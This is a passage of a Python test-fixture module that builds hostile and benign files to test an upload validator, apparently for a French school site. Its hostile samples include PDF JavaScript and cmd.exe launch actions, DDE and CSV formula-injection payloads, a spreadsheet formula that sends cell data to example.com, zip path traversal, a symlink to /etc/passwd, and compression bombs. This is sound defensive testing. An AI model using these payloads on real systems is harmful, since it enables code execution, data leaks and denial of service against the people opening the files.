"""A corpus of good, hostile and broken files, built in memory, with the
verdict each must get when uploaded."""

import functools
import io
import re
import stat
import struct
import warnings
import zipfile
import zlib
from dataclasses import dataclass

from PIL import Image


def image_bytes(format="JPEG", size=(640, 480), colour="#6a6af4", **options):
    buffer = io.BytesIO()
    Image.new("RGB", size, colour).save(buffer, format, **options)
    return buffer.getvalue()


def pdf_bytes(extra=b"", page=b""):
    """A one-page PDF; ``extra`` goes into its catalogue, ``page`` into its
    page."""
    return raw_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R " + extra + b">>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] " + page + b">>",
        }
    )


def raw_pdf(objects, packed=(), after_stream=b"\n", base=None):
    """A PDF written by hand, with a cross-reference stream: the objects
    numbered in ``packed`` go into a FlateDecode-compressed object stream
    whose ``stream`` keyword is followed by ``after_stream``. Given ``base``
    (a PDF), the objects are appended to it as an incremental update."""
    out = bytearray(base or b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    if base:
        previous = int(re.findall(rb"startxref\s+(\d+)", base)[-1])
        size = int(re.findall(rb"/Size (\d+)", base)[-1])
    entries = {}
    for number, body in objects.items():
        if number not in packed:
            entries[number] = (1, len(out), 0)
            out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    next_number = max([*objects, size - 1 if base else 0]) + 1
    if packed:
        header, bodies = b"", b""
        for index, number in enumerate(packed):
            header += b"%d %d " % (number, len(bodies))
            bodies += objects[number] + b"\n"
            entries[number] = (2, next_number, index)
        stream = zlib.compress(header + bodies)
        entries[next_number] = (1, len(out), 0)
        out += (
            b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode "
            b"/Length %d >>\nstream%s%s\nendstream\nendobj\n"
            % (next_number, len(packed), len(header), len(stream), after_stream, stream)
        )
        next_number += 1
    xref_number = next_number
    entries[xref_number] = (1, len(out), 0)
    if not base:
        entries[0] = (0, 0, 65535)
    numbers = sorted(entries)
    rows = b"".join(struct.pack(">BIH", *entries[number]) for number in numbers)
    index = b" ".join(b"%d 1" % number for number in numbers)
    trailer = b"/Prev %d " % previous if base else b""
    offset = len(out)
    out += (
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Index [%s] /Root 1 0 R "
        b"%s/Length %d >>\nstream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n"
        % (xref_number, xref_number + 1, index, trailer, len(rows), rows, offset)
    )
    return bytes(out)


def zip_bytes(entries, compression=zipfile.ZIP_DEFLATED):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return buffer.getvalue()


CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/'
    b'vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/></Types>'
)
RELATIONSHIP_TYPES = (
    "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
)
WORD_NS = b"http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def relationships(*links):
    """A ``.rels`` part; each link is (type, target, external)."""
    external_mode = ' TargetMode="External"'
    rows = "".join(
        f'<Relationship Id="rId{number}" Type="{RELATIONSHIP_TYPES}/{kind}" '
        f'Target="{target}"{external_mode if external else ""}/>'
        for number, (kind, target, external) in enumerate(links, start=1)
    )
    return (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns='
        f'"http://schemas.openxmlformats.org/package/2006/relationships">{rows}'
        "</Relationships>"
    ).encode()


def docx_bytes(body=b"", links=(), **extra):
    """A Word document; ``links`` go into the document's relationships."""
    return zip_bytes(
        {
            "[Content_Types].xml": CONTENT_TYPES,
            "_rels/.rels": relationships(
                ("officeDocument", "word/document.xml", False)
            ),
            "word/document.xml": b'<w:document xmlns:w="' + WORD_NS + b'"><w:body>'
            b"<w:p><w:r><w:t>Compte rendu du conseil d'\xc3\xa9cole</w:t></w:r></w:p>"
            + body
            + b"</w:body></w:document>",
            "word/_rels/document.xml.rels": relationships(*links),
            **extra,
        }
    )


def xlsx_bytes(cell=b'<c r="B2" t="inlineStr"><is><t>15</t></is></c>', **extra):
    ns = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return zip_bytes(
        {
            "[Content_Types].xml": CONTENT_TYPES,
            "_rels/.rels": relationships(("officeDocument", "xl/workbook.xml", False)),
            "xl/workbook.xml": b'<workbook xmlns="' + ns + b'"><sheets><sheet '
            b'name="Notes" sheetId="1"/></sheets></workbook>',
            "xl/worksheets/sheet1.xml": b'<worksheet xmlns="' + ns + b'"><sheetData>'
            b'<row r="1"><c r="A1" t="inlineStr"><is><t>\xc3\x89l\xc3\xa8ve</t>'
            b'</is></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>A.</t></is></c>'
            + cell
            + b"</row></sheetData></worksheet>",
            **extra,
        }
    )


ODF_NAMESPACES = (
    b'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    b'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    b'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    b'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
    b'xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.3"'
)
ODF_EVENT_LISTENER = (
    b"<office:scripts><office:event-listeners><script:event-listener script:"
    b'language="ooo:script" script:event-name="office:load" xlink:href="'
    b"vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;"
    b'location=document"/></office:event-listeners></office:scripts>'
)


def odf_bytes(kind, body, scripts=b"<office:scripts/>", manifest=b"", **extra):
    """An OpenDocument file; LibreOffice writes an empty ``office:scripts``."""
    return zip_bytes(
        {
            "mimetype": b"application/vnd.oasis.opendocument." + kind,
            "content.xml": b"<office:document-content "
            + ODF_NAMESPACES
            + b">"
            + scripts
            + b"<office:body>"
            + body
            + b"</office:body></office:document-content>",
            "META-INF/manifest.xml": b'<manifest:manifest xmlns:manifest="'
            b'urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-'
            b'entry manifest:full-path="/" manifest:media-type="application/'
            b"vnd.oasis.opendocument." + kind + b'"/>' + manifest + b"</manifest:"
            b"manifest>",
            **extra,
        }
    )


def odt_bytes(body=b"<text:p>Compte rendu</text:p>", **options):
    return odf_bytes(b"text", b"<office:text>" + body + b"</office:text>", **options)


def ods_bytes(cell=b"<table:table-cell><text:p>15</text:p></table:table-cell>"):
    return odf_bytes(
        b"spreadsheet",
        b'<office:spreadsheet><table:table table:name="Notes"><table:table-row>'
        b"<table:table-cell><text:p>A.</text:p></table:table-cell>"
        + cell
        + b"</table:table-row></table:table></office:spreadsheet>",
    )


def zip_with(entries, symlinks=(), duplicates=()):
    """A zip archive holding ``entries``, then entries that are symbolic
    links, then entries given again under a name already used."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
        for name, target in symlinks:
            info = zipfile.ZipInfo(name)
            info.create_system = 3  # Unix
            info.external_attr = (stat.S_IFLNK | 0o777) << 16
            archive.writestr(info, target)
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # "Duplicate name"
            for name, content in duplicates:
                archive.writestr(name, content)
    return buffer.getvalue()


def docx_entries():
    with zipfile.ZipFile(io.BytesIO(docx_bytes())) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


@functools.cache
def png_of_size(width, height, colour_type=6, bands=4, depth=8):
    """A valid PNG of ``width`` × ``height`` black pixels, written without
    ever holding its pixels in memory; ``bands`` is its bytes a pixel."""
    import zlib

    def chunk(kind, data):
        return (
            struct.pack(">I", len(data))
            + kind
            + data
            + struct.pack(">I", zlib.crc32(kind + data))
        )

    compressor = zlib.compressobj(9)
    row = b"\x00" * (1 + width * bands)
    pixels = b"".join(compressor.compress(row) for _ in range(height))
    pixels += compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, depth, colour_type, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", pixels)
        + chunk(b"IEND", b"")
    )


def animation_bytes(format="PNG", frames=12):
    buffer = io.BytesIO()
    images = [Image.new("RGB", (64, 64), (index * 20, 0, 0)) for index in range(frames)]
    images[0].save(buffer, format, save_all=True, append_images=images[1:])
    return buffer.getvalue()


SVG_WITH_SCRIPT = (
    b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)'
    b"</script></svg>"
)
HTML_PAGE = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
WINDOWS_EXE = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 200
LINUX_ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 200
OLE_DOC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 500


def mpo_bytes():
    """A JPEG as many phones write it (MPO: extra frames after the first)."""
    buffer = io.BytesIO()
    first, second = (
        Image.new("RGB", (320, 240), "#ff9575"),
        Image.new("RGB", (320, 240)),
    )
    first.save(buffer, "MPO", save_all=True, append_images=[second])
    return buffer.getvalue()


def corrupted(data):
    middle = len(data) // 2
    return (
        data[:middle]
        + bytes(byte ^ 0xFF for byte in data[middle : middle + 64])
        + (data[middle + 64 :])
    )


def flate_pdf_with_script():
    """The catalogue and its script in a compressed object stream."""
    return raw_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
            4: b"<< /S /JavaScript /JS (app.alert(1)) >>",
        },
        packed=(1, 4),
    )


def updated_pdf(objects, **options):
    """A plain PDF, then an incremental update that changes it."""
    return raw_pdf(objects, base=pdf_bytes(), **options)


CATALOGUE = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 10 0 R >>"


def link_annotation(action):
    return b"/Annots [<< /Type /Annot /Subtype /Link /Rect [50 50 200 80] /A " + (
        action + b" >>]"
    )


def indirect_name_pdf(page, name):
    """A PDF whose page holds ``page``, which points to object 4: ``name``."""
    return raw_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] " + page + b">>",
            4: name,
        }
    )


def hostile_pdfs():
    """PDFs with active content, each hidden in another way."""
    return [
        # Escaped names in a compressed object stream whose "stream" keyword
        # is followed by blanks, added by an incremental update.
        (
            "mise-a-jour.pdf",
            updated_pdf(
                {1: CATALOGUE, 10: b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>"},
                packed=(1, 10),
                after_stream=b" \r\n",
            ),
        ),
        # A script in the document's name tree, run when it opens.
        (
            "arbre-des-noms.pdf",
            pdf_bytes(
                b"/Names << /JavaScript << /Names [(ouverture) << /S /JavaScript "
                b"/JS (app.launchURL('https://example.com/')) >>] >> >> "
            ),
        ),
        # An address visited as soon as the file opens.
        (
            "ouverture-web.pdf",
            updated_pdf(
                {1: CATALOGUE, 10: b"<< /S /URI /URI (https://example.com/pixel) >>"}
            ),
        ),
        # Actions on page events, and forms sent or filled from elsewhere.
        (
            "page-auto.pdf",
            pdf_bytes(page=b"/AA << /O << /S /URI /URI (https://example.com/) >> >> "),
        ),
        (
            "envoi-formulaire.pdf",
            pdf_bytes(
                page=link_annotation(
                    b"<< /S /SubmitForm /F << /FS /URL /F (https://example.com/) >> >>"
                )
            ),
        ),
        (
            "import-donnees.pdf",
            pdf_bytes(page=link_annotation(b"<< /S /ImportData /F (donnees.fdf) >>")),
        ),
        (
            "lancement-lien.pdf",
            pdf_bytes(page=link_annotation(b"<< /S /L#61unch /F (cmd.exe) >>")),
        ),
        # Going to a page first, then to an address.
        (
            "ouverture-enchainee.pdf",
            pdf_bytes(
                b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI "
                b"(https://example.com/pixel) >> >> "
            ),
        ),
        # An attached program, and Flash-like rich media.
        (
            "piece-jointe.pdf",
            pdf_bytes(
                b"/Names << /EmbeddedFiles << /Names [(outil.exe) << /Type /Filespec "
                b"/F (outil.exe) /EF << /F 4 0 R >> >>] >> >> "
            ),
        ),
        # Action types and subtypes written elsewhere, behind a reference.
        (
            "lancement-indirect.pdf",
            indirect_name_pdf(
                link_annotation(
                    b"<< /S 4 0 R /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>"
                ),
                b"/Launch",
            ),
        ),
        (
            "envoi-indirect.pdf",
            indirect_name_pdf(
                link_annotation(
                    b"<< /S 4 0 R /F << /FS /URL /F (https://example.com/) >> >>"
                ),
                b"/SubmitForm",
            ),
        ),
        (
            "type-indirect.pdf",
            indirect_name_pdf(
                b"/Annots [<< /Type /Annot /Subtype 4 0 R /Rect [0 0 9 9] >>] ",
                b"/RichMedia",
            ),
        ),
        # A key given twice: pypdf keeps the first /S, some viewers the last.
        (
            "ouverture-en-double.pdf",
            pdf_bytes(
                b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /S /URI /URI "
                b"(https://example.com/pixel) >> "
            ),
        ),
        (
            "ouverture-en-double-2.pdf",
            pdf_bytes(
                b"/OpenAction << /S /URI /URI (https://example.com/pixel) /S /GoTo "
                b"/D [3 0 R /Fit] >> "
            ),
        ),
        (
            "lien-en-double.pdf",
            pdf_bytes(
                page=link_annotation(
                    b"<< /S /URI /URI (https://eduscol.education.fr/) /S /Launch "
                    b"/F (cmd.exe) >>"
                )
            ),
        ),
        (
            "media-riche.pdf",
            pdf_bytes(
                page=b"/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] "
                b">>] "
            ),
        ),
    ]


def encrypted_pdf(to_open=True, algorithm="RC4-128", pdf=None):
    """A protected PDF; without a password ``to_open``, anyone may open it
    (only printing or copying is restricted)."""
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf or pdf_bytes())))
    writer.encrypt("secret" if to_open else "", "proprio", algorithm=algorithm)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def hostile_office_files():
    template = docx_bytes(
        **{
            "word/settings.xml": b'<w:settings xmlns:w="' + WORD_NS + b'"/>',
            "word/_rels/settings.xml.rels": relationships(
                ("attachedTemplate", "https://example.com/modele.dotm", True)
            ),
        }
    )
    internal_template = docx_bytes(
        **{
            "word/settings.xml": b'<w:settings xmlns:w="' + WORD_NS + b'"/>',
            "word/_rels/settings.xml.rels": relationships(
                ("attachedTemplate", "https://example.com/modele.dotm", False)
            ),
        }
    )
    return [
        ("modele-distant.docx", template),
        ("modele-sans-mode.docx", internal_template),
        (
            "objet-lie.docx",
            docx_bytes(links=[("oleObject", "file://serveur/partage/x.xls", True)]),
        ),
        (
            "image-distante.docx",
            docx_bytes(links=[("image", "https://example.com/pixel.png", True)]),
        ),
        (
            "cadre-distant.docx",
            docx_bytes(
                **{
                    "word/_rels/webSettings.xml.rels": relationships(
                        ("frame", "https://example.com/cadre.html", True)
                    )
                }
            ),
        ),
        (
            "sous-document.docx",
            docx_bytes(links=[("subDocument", "https://example.com/d.docx", True)]),
        ),
        (
            "lien-partage.docx",
            docx_bytes(links=[("hyperlink", "file://serveur/partage", True)]),
        ),
        (
            "champ-dde.docx",
            docx_bytes(
                b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
                b" DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\Windows\\\\"
                b'system32\\\\cmd.exe "/c calc"</w:instrText></w:r><w:r><w:fldChar'
                b' w:fldCharType="end"/></w:r></w:p>'
            ),
        ),
        (
            "classeur-lie.xlsx",
            xlsx_bytes(
                **{
                    "xl/externalLinks/externalLink1.xml": b"<externalLink><ddeLink "
                    b'ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
                }
            ),
        ),
        ("evenement.odt", odt_bytes(scripts=ODF_EVENT_LISTENER)),
        (
            "lien-macro.odt",
            odt_bytes(
                b'<text:p><text:a xlink:href="vnd.sun.star.script:Standard.Module1'
                b'.Main?language=Basic&amp;location=document">ici</text:a></text:p>'
            ),
        ),
        (
            "manifeste-scripts.odt",
            odt_bytes(
                manifest=b'<manifest:file-entry manifest:full-path="Scripts/python/'
                b'outil.py" manifest:media-type=""/>'
            ),
        ),
        ("entites.docx", docx_bytes(**{"_rels/.rels": XML_BOMB})),
    ]


SHEET_CONTENT_TYPE = (
    "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
)
STRICT_WORD_NS = b"http://purl.oclc.org/ooxml/wordprocessingml/main"
STRICT_SHEET_NS = b"http://purl.oclc.org/ooxml/spreadsheetml/main"
DDE_FIELD = (
    b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> '
    b'DDEAUTO c:\\\\Windows\\\\system32\\\\cmd.exe "/c calc"</w:instrText></w:r>'
    b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)
FORMULA_CELL = b'<c r="B2"><f>HYPERLINK("https://example.com/?"&amp;A1,"Voir")</f></c>'


def moved_sheet_xlsx():
    """A workbook whose sheet lies in xl/feuilles/, as its relationships and
    content types say: Excel opens it and runs its formula."""
    with zipfile.ZipFile(io.BytesIO(xlsx_bytes(FORMULA_CELL))) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
        workbook = archive.read("xl/workbook.xml")
    workbook = workbook.replace(
        b'sheetId="1"/>',
        b'sheetId="1" r:id="rId1"/>',
    ).replace(
        b"<workbook ", b'<workbook xmlns:r="' + RELATIONSHIP_TYPES.encode() + b'" '
    )
    return zip_bytes(
        {
            "[Content_Types].xml": CONTENT_TYPES.replace(
                b"</Types>",
                b'<Override PartName="/xl/feuilles/sheet1.xml" ContentType="'
                + SHEET_CONTENT_TYPE.encode()
                + b'"/></Types>',
            ),
            "_rels/.rels": relationships(("officeDocument", "xl/workbook.xml", False)),
            "xl/workbook.xml": workbook,
            "xl/_rels/workbook.xml.rels": relationships(
                ("worksheet", "feuilles/sheet1.xml", False)
            ),
            "xl/feuilles/sheet1.xml": sheet,
        }
    )


def moved_document_docx(body=DDE_FIELD):
    """A Word document whose main part is contenu/document.xml."""
    entries = docx_entries()
    document = entries.pop("word/document.xml").replace(
        b"</w:body>", body + b"</w:body>"
    )
    del entries["word/_rels/document.xml.rels"]
    return zip_bytes(
        {
            **entries,
            "_rels/.rels": relationships(
                ("officeDocument", "contenu/document.xml", False)
            ),
            "contenu/document.xml": document,
            "contenu/_rels/document.xml.rels": relationships(),
            "word/styles.xml": b'<w:styles xmlns:w="' + WORD_NS + b'"/>',
        }
    )


def strict_docx(body=b""):
    """A Word document in Strict OOXML (other namespaces)."""
    with zipfile.ZipFile(io.BytesIO(docx_bytes(body))) as archive:
        entries = {name: archive.read(name) for name in archive.namelist()}
    entries["word/document.xml"] = entries["word/document.xml"].replace(
        WORD_NS, STRICT_WORD_NS
    )
    return zip_bytes(entries)


def strict_xlsx(cell):
    with zipfile.ZipFile(io.BytesIO(xlsx_bytes(cell))) as archive:
        entries = {name: archive.read(name) for name in archive.namelist()}
    ns = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return zip_bytes(
        {
            name: content.replace(ns, STRICT_SHEET_NS)
            for name, content in entries.items()
        }
    )


def unicode_path_docx(real_name, shown_name="word/media/notes.txt"):
    """A Word document holding an entry whose Info-ZIP Unicode Path field
    names it otherwise than its header does."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in docx_entries().items():
            archive.writestr(name, content)
        info = zipfile.ZipInfo(shown_name)
        name = real_name.encode()
        info.extra = (
            struct.pack(
                "<HHBI", 0x7075, 5 + len(name), 1, zlib.crc32(shown_name.encode())
            )
            + name
        )
        archive.writestr(info, b"@echo off\r\ncalc\r\n")
    return buffer.getvalue()


def hidden_office_files():
    """Active content in parts Word and Excel find wherever they lie, in
    Strict OOXML, or under names the first checks did not expect."""
    return [
        ("feuille-deplacee.xlsx", moved_sheet_xlsx(), "formules"),
        ("document-deplace.docx", moved_document_docx(), "macros"),
        ("dde-strict.docx", strict_docx(DDE_FIELD), "macros"),
        ("formule-strict.xlsx", strict_xlsx(FORMULA_CELL), "formules"),
        (
            "rels-majuscules.docx",
            docx_bytes(
                **{
                    "word/settings.xml": b'<w:settings xmlns:w="' + WORD_NS + b'"/>',
                    "word/_rels/settings.xml.RELS": relationships(
                        ("attachedTemplate", "https://example.com/modele.dotm", True)
                    ),
                }
            ),
            "autre adresse",
        ),
        (
            "objet-ole.docx",
            docx_bytes(**{"word/embeddings/oleObject1.dat": OLE_DOC}),
            "programmes",
        ),
        (
            "objet-renomme.docx",
            docx_bytes(**{"word/media/image9.png": OLE_DOC}),
            "programmes",
        ),
        (
            "connexion.xlsx",
            xlsx_bytes(
                **{
                    "xl/connections.xml": b'<connections xmlns="http://schemas.'
                    b'openxmlformats.org/spreadsheetml/2006/main"><connection id="1" '
                    b'name="q" type="4" refreshOnLoad="1"><webPr url="https://'
                    b'example.com/data"/></connection></connections>'
                }
            ),
            "autre adresse",
        ),
        (
            "nom-unicode.docx",
            unicode_path_docx("../../../Startup/x.bat"),
            "noms dangereux",
        ),
    ]


XML_BOMB = (
    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b '
    b'"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><Relationships>&b;</Relationships>'
)


def hostile_archives():
    entries = docx_entries()
    return [
        ("barres-inverses.docx", zip_with({**entries, "..\\..\\Startup\\x.bat": b"x"})),
        ("lecteur.docx", zip_with({**entries, "C:/Users/Public/x.bat": b"x"})),
        ("absolu.docx", zip_with({**entries, "/etc/cron.d/x": b"x"})),
        (
            "lien-symbolique.docx",
            zip_with(entries, symlinks=[("word/media/image1.png", b"/etc/passwd")]),
        ),
        (
            "en-double.docx",
            zip_with(entries, duplicates=[("word/document.xml", b"<autre/>")]),
        ),
        (
            "detour.docx",
            zip_with(entries, duplicates=[("word/../word/document.xml", b"<a/>")]),
        ),
    ]


CSV_FORMULAS = [
    ("lien.csv", 'élève;lien\nA.;=HYPERLINK("https://example.com/?"&A1;"Voir")\n'),
    ("dde.csv", "élève;commentaire\nA.;=cmd|' /C calc'!A0\n"),
    ("plus.csv", "élève,commentaire\nA.,+cmd|' /C notepad'!A0\n"),
    ("moins.csv", "élève;note\nA.;-2+3+cmd|' /C calc'!A0\n"),
    ("arobase.csv", "élève;note\nA.;@SUM(1+1)*cmd|' /C calc'!A0\n"),
    ("tabulation.csv", 'élève;note\nA.;"\t=1+1"\n'),
    ("retour.csv", 'élève;note\nA.;"\r=WEBSERVICE(""https://example.com"")"\n'),
    ("pleine-chasse.csv", "élève;note\nA.;＝1+1\n"),
    # A byte-order mark before "=", and a separator Excel reads from "sep=".
    ("marque-utf8.csv", '\ufeff=HYPERLINK("https://example.com/?x","Voir");note\n'),
    ("separateur.csv", "sep=!\nnom!note\nA.!=1+1\n"),
    ("separateur-lettre.csv", "sep=x\nnomxnote\nA.x=cmd|' /C calc'!A0\n"),
    ("unite-piegee.csv", "élève;solde\nA.;-12 € +cmd|' /C calc'!A0\n"),
]


def bomb_png():
    """A 20 000 × 20 000 pixel PNG of a few hundred kilobytes."""
    buffer = io.BytesIO()
    Image.new("1", (20_000, 20_000)).save(buffer, "PNG")
    return buffer.getvalue()


def zip_bomb_docx():
    return docx_bytes(**{"word/media/zeros.bin": b"\x00" * (60 * 1024 * 1024)})


@dataclass
class Sample:
    name: str
    content: bytes
    kind: str  # "image" or "document"
    accepted: bool
    message: str = ""  # part of the French error expected when refused


def corpus():
    jpeg = image_bytes()
    png = image_bytes("PNG")
    return [
        # Good files are accepted.
        Sample("sortie-musee.jpg", jpeg, "image", True),
        Sample("affiche.png", png, "image", True),
        Sample("dessin.webp", image_bytes("WEBP"), "image", True),
        Sample("telephone.jpg", mpo_bytes(), "image", True),
        Sample("compte-rendu.pdf", pdf_bytes(), "document", True),
        Sample("compte-rendu.docx", docx_bytes(), "document", True),
        Sample("compte-rendu.odt", odt_bytes(), "document", True),
        Sample(
            "liste.txt",
            b"Liste des fournitures : cahier, crayons.",
            "document",
            True,
        ),
        Sample("notes.csv", "élève;note\nA.;15\n".encode(), "document", True),
        # Wrong or dangerous kinds.
        Sample("logo.svg", SVG_WITH_SCRIPT, "image", False, "non supporté"),
        Sample("logo.png", SVG_WITH_SCRIPT, "image", False, "image"),
        Sample("page.jpg", HTML_PAGE, "image", False, "image"),
        Sample("animation.gif", image_bytes("GIF"), "image", False, "non supporté"),
        Sample("photo.jpg", png, "image", False, "PNG"),
        Sample("page.html", HTML_PAGE, "document", False, "n'est pas"),
        Sample("page.pdf", HTML_PAGE, "document", False, "PDF"),
        Sample("page.txt", HTML_PAGE, "document", False, "texte"),
        Sample("script.txt", b"<script>alert(1)</script>", "document", False, "texte"),
        Sample("programme.pdf", WINDOWS_EXE, "document", False, "PDF"),
        Sample("programme.exe", WINDOWS_EXE, "document", False, "n'est pas"),
        Sample("programme.docx", LINUX_ELF, "document", False, "DOCX"),
        Sample("ancien.doc", OLE_DOC, "document", False, "n'est pas"),
        Sample("binaire.txt", b"abc\x00\x01\x02", "document", False, "texte"),
        # Macros and active content.
        Sample(
            "macros.docx",
            docx_bytes(**{"word/vbaProject.bin": b"\x00" * 64}),
            "document",
            False,
            "macros",
        ),
        Sample(
            "macros.odt",
            odt_bytes(**{"Basic/Standard/Module1.xml": b"<script/>"}),
            "document",
            False,
            "macros",
        ),
        Sample(
            "formulaire.pdf",
            pdf_bytes(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >> "),
            "document",
            False,
            "scripts",
        ),
        Sample(
            "cache.pdf",
            pdf_bytes(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >> "),
            "document",
            False,
            "scripts",
        ),
        Sample("compresse.pdf", flate_pdf_with_script(), "document", False, "scripts"),
        Sample(
            "objet.docx",
            docx_bytes(**{"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
            "document",
            False,
            "programmes",
        ),
        Sample(
            "long.txt",
            b"Liste des sorties.\n" * 400 + b"<html><script>alert(1)</script>",
            "document",
            False,
            "texte",
        ),
        Sample("corrompu.docx", corrupted(docx_bytes()), "document", False, "DOCX"),
        Sample(
            "lanceur.pdf",
            pdf_bytes(b"/OpenAction << /S /Launch /F (cmd.exe) >> "),
            "document",
            False,
            "scripts",
        ),
        # Broken or truncated files.
        Sample("coupee.jpg", jpeg[: len(jpeg) // 2], "image", False, "image"),
        Sample("coupee.png", png[: len(png) // 2], "image", False, "image"),
        Sample("vide.jpg", b"", "image", False, "vide"),
        Sample("vide.pdf", b"", "document", False, "vide"),
        Sample("coupe.pdf", pdf_bytes()[:60], "document", False, "PDF"),
        Sample("abime.docx", docx_bytes()[:-40], "document", False, "DOCX"),
        Sample(
            "sans-contenu.docx", zip_bytes({"a.txt": b"x"}), "document", False, "DOCX"
        ),
        Sample(
            "evasion.docx",
            docx_bytes(**{"../../etc/cron.d/x": b"x"}),
            "document",
            False,
            "noms dangereux",
        ),
        # Too big.
        Sample(
            "enorme.jpg",
            image_bytes()[:-2] + b"\x00" * (11 * 1024 * 1024) + b"\xff\xd9",
            "image",
            False,
            "trop",
        ),
        Sample(
            "enorme.txt", b"a" * (21 * 1024 * 1024), "document", False, "volumineux"
        ),
        # Bombs.
        Sample("immense.png", bomb_png(), "image", False, "pixels"),
        Sample("bombe.docx", zip_bomb_docx(), "document", False, "anormale"),
        # Hostile names (path parts and invisible characters are already cut
        # by Django when the upload is parsed; see test_uploads).
        Sample(("tres-long-" * 30) + ".jpg", jpeg, "image", False, "long"),
        Sample(("tres-long-" * 30) + ".pdf", pdf_bytes(), "document", False, "long"),
        *second_pass(),
    ]


def second_pass():
    """Files that got through the first checks (issue 12)."""
    link = b"<< /S /URI /URI (https://eduscol.education.fr/) >>"
    good = [
        # A link the reader clicks, and opening at the first page, are fine.
        Sample("lien.pdf", pdf_bytes(page=link_annotation(link)), "document", True),
        # As LibreOffice writes links, and a "next page" button.
        Sample(
            "liens-libreoffice.pdf",
            pdf_bytes(
                page=b"/Annots [<< /Type /Annot /Subtype /Link /F 4 /Rect [0 0 9 9] "
                b"/A << /Type /Action /S /URI /URI (https://eduscol.education.fr/) >> "
                b">> << /Type /Annot /Subtype /Link /Rect [0 9 9 18] /A << /S /Named "
                b"/N /NextPage >> >>] "
            ),
            "document",
            True,
        ),
        Sample(
            "ouverture.pdf",
            pdf_bytes(b"/OpenAction [3 0 R /Fit] "),
            "document",
            True,
        ),
        Sample(
            "avec-lien.docx",
            docx_bytes(links=[("hyperlink", "https://eduscol.education.fr/", True)]),
            "document",
            True,
        ),
        Sample("restreint.pdf", encrypted_pdf(to_open=False), "document", True),
        # AES, as recent exports protect against printing or editing.
        *(
            Sample(
                f"restreint-{algorithm.lower()}.pdf",
                encrypted_pdf(to_open=False, algorithm=algorithm),
                "document",
                True,
            )
            for algorithm in ("AES-128", "AES-256")
        ),
        Sample("notes.xlsx", xlsx_bytes(), "document", True),
        Sample("strict.docx", strict_docx(), "document", True),
        Sample("strict.xlsx", strict_xlsx(b""), "document", True),
